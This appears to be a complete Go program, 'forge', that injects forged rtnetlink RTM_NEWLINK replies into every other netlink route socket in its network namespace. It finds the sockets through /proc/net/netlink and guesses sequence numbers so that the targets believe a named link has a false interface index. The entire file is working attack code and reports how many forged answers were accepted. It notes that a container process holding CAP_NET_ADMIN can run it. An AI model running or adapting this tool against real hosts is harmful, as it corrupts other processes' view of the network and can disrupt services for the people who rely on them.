// Command forge answers what nobody asked it: it tells every other rtnetlink(7) socket of its network namespace that a link
// has an index that it does not have. That takes CAP_NET_ADMIN, as a process of a container may have it.
//
//	forge NAME INDEX COUNT    sends COUNT answers to each socket; prints how many sockets there are, and how many answers
//	                          the kernel and the sockets' buffers took
package main

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// So many numbers of a question are guessed.
const guesses = 20

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) != 3 {
		return errors.New("usage: forge NAME INDEX COUNT")
	}
	index, err := strconv.ParseUint(args[1], 10, 32)
	if err != nil {
		return err
	}
	count, err := strconv.ParseUint(args[2], 10, 32)
	if err != nil {
		return err
	}
	sockets, err := sockets()
	if err != nil {
		return err
	}
	own, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	taken := 0
	for _, id := range sockets {
		for number := uint32(0); number < uint32(count); number++ {
			answer := answer(args[0], uint32(index), number%guesses, id)
			err := unix.Sendto(own, answer, unix.MSG_DONTWAIT, &unix.SockaddrNetlink{Family: unix.AF_NETLINK, Pid: id})
			if err == unix.EAGAIN || err == unix.ECONNREFUSED {
				break
			}
			if err != nil {
				return fmt.Errorf("socket %d: %w", id, err)
			}
			taken++
		}
	}
	fmt.Println(len(sockets), taken)
	return nil
}

// sockets returns the port ids of the processes' rtnetlink sockets. /proc/net/netlink has the protocol in its second column
// and the port id in the third.
func sockets() ([]uint32, error) {
	table, err := os.Open("/proc/thread-self/net/netlink")
	if err != nil {
		return nil, err
	}
	defer table.Close()
	var ids []uint32
	for lines := bufio.NewScanner(table); lines.Scan(); {
		columns := strings.Fields(lines.Text())
		if len(columns) < 3 || columns[1] != "0" {
			continue
		}
		id, err := strconv.ParseUint(columns[2], 10, 32)
		if err != nil {
			return nil, err
		}
		if id != 0 {
			ids = append(ids, uint32(id))
		}
	}
	return ids, nil
}

// answer makes the kernel's answer to RTM_GETLINK: nlmsghdr, ifinfomsg and one attribute.
func answer(name string, index, sequence, port uint32) []byte {
	attribute := append([]byte(name), 0)
	length := unix.NLMSG_HDRLEN + unix.SizeofIfInfomsg + unix.SizeofRtAttr + len(attribute)
	order := binary.NativeEndian
	message := order.AppendUint32(nil, uint32(length))
	message = order.AppendUint16(message, unix.RTM_NEWLINK)
	message = order.AppendUint16(message, 0)
	message = order.AppendUint32(message, sequence)
	message = order.AppendUint32(message, port)
	message = append(message, make([]byte, unix.SizeofIfInfomsg)...)
	order.PutUint32(message[unix.NLMSG_HDRLEN+4:], index)
	message = order.AppendUint16(message, uint16(unix.SizeofRtAttr+len(attribute)))
	message = order.AppendUint16(message, unix.IFLA_IFNAME)
	return append(message, attribute...)
}
